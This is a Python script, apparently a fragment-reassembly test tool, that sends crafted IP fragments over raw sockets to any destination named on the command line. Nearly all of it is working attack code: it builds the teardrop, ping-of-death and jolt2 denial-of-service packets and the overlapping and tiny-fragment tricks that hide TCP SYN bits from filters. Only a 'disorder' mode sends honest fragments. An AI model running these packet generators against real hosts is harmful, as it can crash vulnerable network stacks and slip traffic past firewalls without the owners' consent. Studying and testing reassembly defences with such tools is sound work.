"""fragments.py KIND DESTINATION   sends fragments through raw sockets: such as no stack makes, and honest ones in `disorder`.

Twenty datagrams of a kind, each with an identification of its own, 20 ms apart. The sizes of `teardrop` and `jolt2` are those
of the programs that gave these attacks their names.
"""
import random
import socket
import struct
import sys
import time

kind, destination = sys.argv[1:]
ipv6 = ":" in destination
family = socket.AF_INET6 if ipv6 else socket.AF_INET
# The kernel makes the IPv6 header itself; of IPv4 it fills in source, length and checksum.
wire = socket.socket(family, socket.SOCK_RAW, 44 if ipv6 else socket.IPPROTO_RAW)

ICMP, TCP, UDP = 58 if ipv6 else 1, 6, 17


def send(identification, protocol, offset, more, data):
    if ipv6:
        header = struct.pack("!BBHI", protocol, 0, offset | more, identification)
    else:
        field = offset >> 3 | more << 13
        address = socket.inet_pton(family, destination)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, identification, field, 64, protocol, 0, bytes(4), address)
    wire.sendto(header + data, (destination, 0))


def udp(length):
    return struct.pack("!HHHH", 4000, 33, length, 0) + bytes(length - 8)


def syn(dport):
    return struct.pack("!HHIIBBHHH", 40000, dport, 1, 0, 0x50, 2, 1024, 0, 0)


def teardrop(identification):
    """The second fragment ends within the first; and the first has an odd length."""
    send(identification, UDP, 0, 1, udp(64)[:36])
    send(identification, UDP, 24, 0, bytes(4))


def overlap(identification):
    """The second fragment rewrites the control bits that the first one showed to a filter (RFC 3128, RFC 5722)."""
    send(identification, TCP, 0, 1, syn(identification)[:16] + bytes(16))
    send(identification, TCP, 8, 0, syn(identification)[8:20] + bytes(12))


def ping_of_death(identification):
    """An echo request of more than 65535 octets, in its last three fragments."""
    for offset in (62560, 64000, 65440):
        send(identification, ICMP, offset, int(offset != 65440), bytes(1440 if offset != 65440 else 104))


def jolt2(identification):
    """The same fragment again and again, which claims to end past the last octet."""
    send(1109, ICMP, 65520, 0, bytes(48))


def duplicate(identification):
    """Each fragment twice."""
    datagram = udp(64)
    for start in (0, 0, 32, 32):
        send(identification, UDP, start, int(start == 0), datagram[start:start + 32])


def tiny(identification):
    """The ports in the first fragment, the control bits in the second one (RFC 1858)."""
    segment = syn(identification)
    send(identification, TCP, 0, 1, segment[:8])
    send(identification, TCP, 8, 0, segment[8:])


def disorder(identification):
    """A datagram in parts of random sizes, the next one begun before it is complete: honest, whatever the network did."""
    order = random.Random(identification)
    for datagram in identification, identification + 1000:
        octets = udp(1400)
        cuts = sorted(order.sample(range(8, 1400, 8), 5))
        parts.extend((datagram, start, end, octets[start:end]) for start, end in zip([0, *cuts], [*cuts, 1400]))
    order.shuffle(parts)
    for _ in range(9 if identification < 20 else len(parts)):
        datagram, start, end, octets = parts.pop()
        send(datagram, UDP, start, int(end < 1400), octets)


parts = []
for number in range(1, 21):
    globals()[kind.replace("-", "_")](number)
    time.sleep(0.02)
